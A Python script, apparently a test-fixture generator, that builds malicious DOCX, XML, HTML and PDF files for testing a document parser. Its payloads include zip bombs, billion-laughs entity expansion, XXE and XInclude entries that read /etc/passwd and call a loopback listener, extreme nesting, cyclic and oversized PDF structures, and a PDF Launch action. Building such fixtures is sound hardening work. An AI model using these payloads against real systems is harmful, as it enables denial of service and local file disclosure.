#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""make FOLDER PORT: files that are made to do harm to whoever reads them, each named for
what it does. PORT: of the loopback, where somebody listens for those who fetch what a file refers to."""

import io
import os
import struct
import sys
import zipfile
import zlib

folder, port = sys.argv[1], sys.argv[2]
HERE = f"http://127.0.0.1:{port}/"
CONTENT_TYPES = """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""
RELS = """<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"""
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def write(name, data):
    with open(os.path.join(folder, name), "wb") as file:
        file.write(data if isinstance(data, bytes) else data.encode())


def docx(name, document, more=()):
    with zipfile.ZipFile(os.path.join(folder, name), "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("word/document.xml", document)
        for part, data in more:
            archive.writestr(part, data)


def body(inner, head='<?xml version="1.0"?>'):
    return f"{head}<w:document {W}><w:body>{inner}</w:body></w:document>"


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


ENTITIES = "<!DOCTYPE x [<!ENTITY a0 \"lol\">" + "".join(
    f'<!ENTITY a{i} "{"&a%d;" % (i - 1) * 10}">' for i in range(1, 12)) + "]>"
EXTERNAL = f'<!DOCTYPE x SYSTEM "{HERE}x.dtd" [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "{HERE}entity">]>'


def archives():
    docx("bomb-ratio.docx", body(paragraph("x" * (64 << 20))))
    docx("bomb-entities.docx", body(paragraph("&a11;"), '<?xml version="1.0"?>' + ENTITIES))
    docx("external.docx", body(paragraph("&e;&f; words of a paragraph"), '<?xml version="1.0"?>' + EXTERNAL))
    docx("deep.docx", body("<w:tbl><w:tr><w:tc>" * 100000 + paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 100000))
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.xml", "y" * (100 << 20))
    docx("bomb-nested.docx", body(paragraph("An archive in an archive")), [(f"word/{i}.zip", inner.getvalue()) for i in range(20)])
    with zipfile.ZipFile(os.path.join(folder, "many-parts.docx"), "w") as archive:
        for i in range(30000):
            archive.writestr(f"word/{i}.xml", "")
        archive.writestr("word/document.xml", body(paragraph("many")))
    overlapping()


def overlapping():
    """All entries of the directory are the same bytes."""
    data = zlib.compressobj(9, zlib.DEFLATED, -15)
    text = body(paragraph("z" * (50 << 20))).encode()
    packed = data.compress(text) + data.flush()
    crc, out, directory = zlib.crc32(text), io.BytesIO(), io.BytesIO()
    names = [b"word/document.xml", b"[Content_Types].xml"] + [b"word/%05d.xml" % i for i in range(500)]
    head = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), len(text), len(names[0]), 0)
    out.write(head + names[0] + packed)
    for name in names:
        directory.write(struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(packed), len(text), len(name), 0, 0, 0, 0, 0, 0) + name)
    at = out.tell()
    out.write(directory.getvalue())
    out.write(struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, len(names), len(names), len(directory.getvalue()), at, 0))
    write("bomb-overlapping.docx", out.getvalue())


def markup():
    write("bomb-entities.xml", '<?xml version="1.0"?>' + ENTITIES +
          '<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><u who="#x">&a11;</u></body></text></TEI>')
    write("external.xml", '<?xml version="1.0"?>' + EXTERNAL +
          '<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><u who="#x">&e;&f; and a few words more</u></body></text></TEI>')
    write("include.xml", '<?xml version="1.0"?><TEI xmlns="http://www.tei-c.org/ns/1.0" xmlns:xi="http://www.w3.org/2001/XInclude">'
          f'<text><body><xi:include href="file:///etc/passwd" parse="text"/><xi:include href="{HERE}x"/><p>A few words stand here.</p></body></text></TEI>')
    write("deep.xml", '<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body>' + "<div>" * 200000 + "<p>deep</p>" + "</div>" * 200000 + "</body></text></TEI>")
    write("deep.html", "<html><body>" + "<div><b><i>" * 100000 + "words that are deep in a page" + "</div>" * 100000)
    write("remote.html", f'<html><head><link rel="stylesheet" href="{HERE}a.css"><script src="{HERE}a.js"></script><base href="{HERE}"></head>'
          f'<body><img src="{HERE}a.png"><iframe src="{HERE}b"></iframe><p>The harbour of Port Ellery is open on every day of the year.</p></body></html>')


def pdf(name, objects, root=1):
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    places = {}
    for number, content in objects.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + (content if isinstance(content, bytes) else content.encode()) + b"\nendobj\n")
    at, size = out.tell(), max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        out.write(b"%010d 00000 n \n" % places.get(number, 0))
    out.write(b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, at))
    write(name, out.getvalue())


def stream(data, extra="/Filter/FlateDecode"):
    packed = zlib.compress(data, 9)
    return f"<</Length {len(packed)}{extra}>>stream\n".encode() + packed + b"\nendstream"


FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
CATALOG = "<</Type/Catalog/Pages 2 0 R>>"


def page(contents, resources="/Font<</F1 5 0 R>>"):
    return f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents {contents} 0 R/Resources<<{resources}>>>>"


def pages():
    text = stream(b"BT /F1 12 Tf 20 200 Td (The harbour of Port Ellery is open on every day.) Tj ET")
    pdf("million-pages.pdf", {1: CATALOG, 2: "<</Type/Pages/Count 1000000/Kids[" + "3 0 R " * 1000000 + "]>>", 3: page(4), 4: text, 5: FONT})
    pdf("lying-count.pdf", {1: CATALOG, 2: "<</Type/Pages/Count 2147483647/Kids[3 0 R]>>", 3: page(4), 4: text, 5: FONT})
    pdf("cyclic-pages.pdf", {1: CATALOG, 2: "<</Type/Pages/Count 3/Kids[2 0 R 3 0 R 2 0 R]/Parent 2 0 R>>", 3: page(4), 4: text, 5: FONT})
    pdf("cyclic-form.pdf", {1: CATALOG, 2: "<</Type/Pages/Count 1/Kids[3 0 R]>>", 3: page(4, "/XObject<</X 6 0 R>>"), 4: stream(b"/X Do"), 5: FONT,
                            6: stream(b"/X Do /X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Filter/FlateDecode")})
    forms = {7 + i: stream(b"/X Do " * 10, f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {8 + i} 0 R>>>>/Filter/FlateDecode") for i in range(12)}
    forms[19] = stream(b"BT /F1 9 Tf (x) Tj ET", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 5 0 R>>>>/Filter/FlateDecode")
    pdf("bomb-forms.pdf", {1: CATALOG, 2: "<</Type/Pages/Count 1/Kids[3 0 R]>>", 3: page(4, "/XObject<</X 7 0 R>>"), 4: stream(b"/X Do"), 5: FONT, **forms})
    pdf("bomb-stream.pdf", {1: CATALOG, 2: "<</Type/Pages/Count 1/Kids[3 0 R]>>", 3: page(4), 4: stream(b"BT /F1 12 Tf (x) Tj ET\n" * (8 << 20)), 5: FONT})
    pdf("huge-image.pdf", {1: CATALOG, 2: "<</Type/Pages/Count 1/Kids[3 0 R]>>", 3: page(4, "/XObject<</X 6 0 R>>/Font<</F1 5 0 R>>"),
                           4: stream(b"/X Do BT /F1 12 Tf 20 200 Td (A picture that is too large for any wall.) Tj ET"), 5: FONT,
                           6: stream(b"\0" * 1000, "/Type/XObject/Subtype/Image/Width 1000000/Height 1000000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode")})
    pdf("huge-font.pdf", {1: CATALOG, 2: "<</Type/Pages/Count 1/Kids[3 0 R]>>", 3: page(4), 4: text,
                          5: "<</Type/Font/Subtype/Type1/BaseFont/Huge/FontDescriptor 6 0 R/FirstChar 0/LastChar 2147483647/Widths[" + "500 " * 500000 + "]>>",
                          6: "<</Type/FontDescriptor/FontName/Huge/FontFile 7 0 R>>", 7: stream(b"%!" + b"\0" * (200 << 20))})
    pdf("remote.pdf", {1: f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({HERE}open)>>/AA<</WC<</S/Launch/F(/bin/true)>>>>>>",
                       2: "<</Type/Pages/Count 1/Kids[3 0 R]>>", 3: page(4), 5: FONT,
                       4: f"<</Length 0/F<</FS/URL/F({HERE}stream)>>>>stream\n\nendstream".encode()})


os.makedirs(folder, exist_ok=True)
archives()
markup()
pages()
